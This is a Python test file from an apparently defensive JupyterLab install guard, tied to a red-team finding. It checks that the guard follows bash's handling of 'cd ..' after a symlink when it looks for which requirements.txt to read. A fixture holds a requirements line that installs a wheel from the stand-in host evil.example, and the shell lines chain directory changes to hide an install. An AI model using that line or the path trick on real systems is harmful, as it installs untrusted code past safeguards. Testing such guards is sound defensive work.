"""What earlier commands on a shell line do to a later install (red team 7 R7-16), where the
shared vectors cannot carry it: a folder reached through a link, checked against bash."""

import os
import subprocess

from jupyterlab_warden.kernel.guard.installs import decide
from jupyterlab_warden.kernel.guard.installs.data import DepsData
from jupyterlab_warden.kernel.guard.installs.gate import read_requests

URL_LINE = "black @ https://evil.example/black-1.0-py3-none-any.whl\n"


def _rules(line, cwd):
    env = {"HOME": str(cwd), "PIP_CONFIG_FILE": os.devnull}
    requests = read_requests(None, line, env, str(cwd))
    return sorted({f.rule_id for r in requests for f in decide.decide(r, {}, DepsData())})


def test_cd_dotdot_after_a_link_is_read_where_bash_lands(tmp_path):
    (tmp_path / "elsewhere" / "sub").mkdir(parents=True)
    (tmp_path / "elsewhere" / "requirements.txt").write_text(URL_LINE)
    (tmp_path / "requirements.txt").write_text("black\n")
    (tmp_path / "lnk").symlink_to(tmp_path / "elsewhere" / "sub")
    where = subprocess.run(
        ["bash", "-c", "cd lnk; cd ..; pwd"], cwd=tmp_path, capture_output=True, text=True
    ).stdout.strip()
    assert where == str(tmp_path)  # bash's cd is logical: `..` undoes the link
    assert _rules("cd lnk; cd ..; uv pip install -r requirements.txt", tmp_path) == []
    assert _rules("cd -P lnk; cd ..; uv pip install -r requirements.txt", tmp_path) == [
        "install-unreadable"
    ]
